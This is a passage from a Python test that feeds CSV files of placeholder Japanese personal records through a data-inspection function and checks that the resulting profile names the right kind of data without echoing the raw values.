                "2026-05-01 10:00",
                "1",
                "西新宿1-2-3",
                "番場　一",
                "4200402",
                "0312345678",
            ],
        ),
    }
    for holds, (headers, row) in kinds.items():
        path = write_text(tmp_path / f"{holds}.csv", [headers, *[row] * 12])
        found = inspect(path)
        write_draft(tmp_path / f"{holds}.yaml", found.draft)
        profile: Profile = read_profile(tmp_path / f"{holds}.yaml")
        assert profile.holds == holds
        assert not [value for value in row if len(value) > 3 and value in join(found)]
